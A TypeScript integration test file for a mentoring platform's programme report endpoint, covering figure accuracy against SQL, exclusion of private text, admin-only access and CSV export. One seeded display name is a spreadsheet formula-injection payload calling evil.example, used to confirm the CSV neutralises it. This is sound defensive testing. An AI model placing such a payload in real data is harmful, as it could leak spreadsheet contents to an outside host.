// The programme report on the server (issue 18): GET /programs/<id>/report answers core's programmeReport
// over every stored record of the programme — its figures checked here against SQL over the same rows,
// written independently of core — with the median response time from message metadata (never their text);
// one table as an RFC 4180 CSV attachment safe to open in a spreadsheet; only the programme's admins (and a
// service) get it, and for anyone else the programme answers exactly like one that does not exist.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { reportColumns } from '@mentorkit/core/report';
import { DEMO_PROGRAM_ID, seedDemoProgram } from '../src/demo-program.js';
import { createPostgresStorage } from '../src/store.js';
import { as, asService, skipReason, startTestBackend, type TestBackend } from './support.js';

const skip = skipReason();
const PRIYA = 'priya-raman'; // the demo programme's admin
const MARIA = 'maria-gonzalez'; // a mentor in it
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const PERIOD = 'from=2026-11-01&to=2026-11-30';

describe('the programme report on the server', { skip: skip ?? false, timeout: 2 * 60_000 }, () => {
  let backend: TestBackend;
  const get = (path: string, headers: Record<string, string>) => fetch(`${backend.url}${path}`, { headers });

  before(async () => {
    backend = await startTestBackend();
    const storage = createPostgresStorage(backend.pool);
    await seedDemoProgram(storage);
    const noah = (await storage.get('people', 'noah-johnson'))!;
    await storage.put('people', { ...noah, displayName: HOSTILE_NAME } as never, { expectedRevision: noah.revision });
    const put = (collection: string, record: Record<string, unknown>) =>
      storage.put(collection, { createdAt: '2026-11-02T10:00:00Z', ...record } as never, { expectedRevision: null });
    const session = (id: string, pairingId: string, start: string, minutes: number, status: string, extra: Record<string, unknown> = {}) =>
      put('sessions', {
        id,
        pairingId,
        title: 'Catch-up',
        start,
        end: new Date(Date.parse(start) + minutes * 60_000).toISOString(),
        timeZone: 'UTC',
        status,
        ...extra,
      });
    await session('r-1', 'pairing-noah', '2026-11-03T16:00:00Z', 60, 'held');
    await session('r-2', 'pairing-noah', '2026-11-10T16:00:00Z', 60, 'held', { heldMinutes: 50 });
    await session('r-3', 'pairing-noah', '2026-11-17T16:00:00Z', 60, 'missed');
    await session('r-4', 'pairing-hana', '2026-11-05T01:00:00Z', 90, 'held');
    await session('r-5', 'pairing-hana', '2026-11-30T23:30:00Z', 30, 'held'); // the period's last day, UTC
    await session('r-6', 'pairing-hana', '2026-12-01T00:30:00Z', 30, 'held'); // after it
    await session('r-7', 'pairing-hana', '2026-10-31T23:00:00Z', 30, 'cancelled'); // before it
    // Turns in one conversation: 90, 2,790 and 30 minutes after the other side's message.
    await put('messages', {
      id: 'msg-1',
      pairingId: 'pairing-noah',
      authorId: 'noah-johnson',
      kind: 'text',
      text: 'SECRET-MESSAGE-TEXT',
      mentorsOnly: false,
      history: [],
      sentAt: '2026-11-04T10:00:00Z',
    });
    await put('messages', {
      id: 'msg-2',
      pairingId: 'pairing-noah',
      authorId: MARIA,
      kind: 'text',
      text: 'SECRET-REPLY-TEXT',
      mentorsOnly: false,
      history: [],
      sentAt: '2026-11-04T11:30:00Z',
    });
    await put('messages', {
      id: 'msg-3',
      pairingId: 'pairing-noah',
      authorId: 'noah-johnson',
      kind: 'text',
      text: 'SECRET-MESSAGE-TEXT',
      mentorsOnly: false,
      history: [],
      sentAt: '2026-11-06T10:00:00Z',
    });
    await put('messages', {
      id: 'msg-4',
      pairingId: 'pairing-noah',
      authorId: MARIA,
      kind: 'text',
      text: 'SECRET-REPLY-TEXT',
      mentorsOnly: false,
      history: [],
      sentAt: '2026-11-06T10:30:00Z',
    });
    await put('feedback', {
      id: 'fb-1',
      pairingId: 'pairing-noah',
      sessionId: 'r-1',
      authorId: 'noah-johnson',
      rating: 4,
      helped: 'SECRET-FEEDBACK',
      tags: [],
      submittedAt: '2026-11-03T18:00:00Z',
    });
    await put('feedback', {
      id: 'fb-2',
      pairingId: 'pairing-hana',
      sessionId: 'r-4',
      authorId: 'hana-sato',
      rating: 5,
      tags: [],
      submittedAt: '2026-11-05T03:00:00Z',
    });
  });
  after(async () => {
    await backend?.close();
  });

  test('the admin’s report: every figure as SQL over the same rows counts it, response time from metadata, no message or feedback text', async () => {
    const response = await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, as(PRIYA));
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /application\/json/);
    const text = await response.text();
    for (const secret of ['SECRET-MESSAGE-TEXT', 'SECRET-REPLY-TEXT', 'SECRET-FEEDBACK']) assert.ok(!text.includes(secret), `${secret} is not in the report`);
    const report = JSON.parse(text);

    // Independently of core: SQL over the stored rows.
    const sql = async (query: string) => (await backend.pool.query(query, [DEMO_PROGRAM_ID])).rows[0];
    const inPeriod = "(s.data->>'start')::timestamptz >= '2026-11-01T00:00:00Z' AND (s.data->>'start')::timestamptz < '2026-12-01T00:00:00Z'";
    const ofProgramme = "s.data->>'pairingId' IN (SELECT id FROM mk_records WHERE collection = 'pairings' AND NOT deleted AND data->>'programId' = $1)";
    const sessions =
      await sql(`SELECT count(*) FILTER (WHERE s.data->>'status' = 'held')::int AS held, count(*) FILTER (WHERE s.data->>'status' = 'missed')::int AS missed,
      count(*) FILTER (WHERE s.data->>'status' = 'cancelled')::int AS cancelled,
      COALESCE(sum(CASE WHEN s.data->>'status' = 'held' THEN COALESCE((s.data->>'heldMinutes')::int, round(extract(epoch FROM (s.data->>'end')::timestamptz - (s.data->>'start')::timestamptz) / 60)::int) END), 0)::int AS minutes
      FROM mk_records s WHERE s.collection = 'sessions' AND NOT s.deleted AND ${ofProgramme} AND ${inPeriod}`);
    assert.equal(report.totals.sessions.held, sessions.held);
    assert.equal(report.totals.sessions.missed, sessions.missed);
    assert.equal(report.totals.sessions.cancelled, sessions.cancelled);
    assert.equal(report.totals.mentoringMinutes, sessions.minutes);
    assert.deepEqual(
      [sessions.held, sessions.minutes],
      [4, 60 + 50 + 90 + 30],
      'the seeded figures (the test’s own arithmetic): r-1 booked 60, r-2 recorded 50, r-4 90, r-5 30 (r-6 is after the period)',
    );
    const pairs = await sql(
      "SELECT count(*)::int AS total, count(*) FILTER (WHERE data->>'status' = 'active')::int AS active, count(*) FILTER (WHERE data->>'status' = 'paused')::int AS paused, count(*) FILTER (WHERE data->>'status' = 'proposed')::int AS proposed FROM mk_records WHERE collection = 'pairings' AND NOT deleted AND data->>'programId' = $1",
    );
    assert.equal(report.totals.pairs.active, pairs.active);
    assert.equal(report.totals.pairs.paused, pairs.paused);
    const feedback = await sql(
      `SELECT count(*)::int AS notes, round(avg((s.data->>'rating')::numeric), 2)::float AS average FROM mk_records s WHERE s.collection = 'feedback' AND NOT s.deleted AND ${ofProgramme} AND (s.data->>'submittedAt')::timestamptz >= '2026-11-01T00:00:00Z' AND (s.data->>'submittedAt')::timestamptz < '2026-12-01T00:00:00Z'`,
    );
    assert.equal(report.totals.feedback.notes, feedback.notes);
    assert.equal(report.totals.feedback.averageRating, feedback.average);
    // Every message after one from the other side answers it: María after 90 min, Noah after 2,790 min, María after 30.
    assert.deepEqual(report.totals.responseTime, { medianMinutes: 90, replies: 3 }, 'replies after 90, 2790 and 30 minutes');
    const noah = report.pairs.find((pair: { pairingId: string }) => pair.pairingId === 'pairing-noah');
    assert.equal(noah.menteeName, HOSTILE_NAME, 'names are data');
    assert.equal(noah.sessionsMissed, 1);
  });

  test('CSV: one table as an attachment, the documented columns, a formula-looking name defused', async () => {
    const response = await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}&format=csv&table=pairs`, as(PRIYA));
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.equal(response.headers.get('content-disposition'), `attachment; filename="${DEMO_PROGRAM_ID}-pairs-2026-11-01-2026-11-30.csv"`);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    const csv = await response.text();
    const lines = csv.split('\r\n');
    assert.equal(lines[0], reportColumns('pairs').join(','));
    assert.equal(lines.at(-1), '', 'every line ends with CRLF');
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`), 'quoted, quotes doubled, and prefixed so no spreadsheet runs it');
    assert.ok(!/(^|,)=HYPERLINK/m.test(csv));
  });

  test('who may read it: a mentor and an outsider get the unknown-programme answer; a service may; bad parameters are named', async () => {
    const unknown = await get(`/programs/no-such-programme/report?${PERIOD}`, as(PRIYA));
    assert.equal(unknown.status, 404);
    const mentor = await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, as(MARIA));
    assert.equal(mentor.status, 404);
    const outsider = await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, as('someone-else'));
    assert.equal(outsider.status, 404);
    const [mentorBody, outsiderBody] = [await mentor.json(), await outsider.json()];
    assert.deepEqual(mentorBody, outsiderBody, 'the same answer for a mentor and an outsider');
    assert.equal(mentorBody.code, 'not-found');
    assert.equal((await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, asService)).status, 200);
    assert.equal((await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, {})).status, 401);

    const refused = async (query: string, path: string) => {
      const response = await get(`/programs/${DEMO_PROGRAM_ID}/report?${query}`, as(PRIYA));
      assert.equal(response.status, 400, query);
      assert.equal((await response.json()).path, path, query);
    };
    await refused('to=2026-11-30', 'from');
    await refused('from=2026-13-01&to=2026-11-30', 'from');
    await refused(`${PERIOD}&format=xml`, 'format');
    await refused(`${PERIOD}&format=csv`, 'table');
    await refused(`${PERIOD}&format=csv&table=secrets`, 'table');
    await refused(`${PERIOD}&table=pairs`, 'table');
    await refused(`${PERIOD}&evil=1`, 'evil');
    const backwards = await get(`/programs/${DEMO_PROGRAM_ID}/report?from=2026-11-30&to=2026-11-01`, as(PRIYA));
    assert.equal(backwards.status, 400);
    const zone = await get(`/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}&timeZone=Mars/Olympus`, as(PRIYA));
    assert.equal(zone.status, 400);
    const post = await fetch(`${backend.url}/programs/${DEMO_PROGRAM_ID}/report?${PERIOD}`, { method: 'POST', headers: as(PRIYA) });
    assert.equal(post.status, 405);
    assert.equal(post.headers.get('allow'), 'GET');
    const long = await get(`/programs/${'x'.repeat(5000)}/report?${PERIOD}`, as(PRIYA));
    assert.ok([404, 414, 431, 400].includes(long.status), `a huge id is refused (${long.status})`);
  });
});
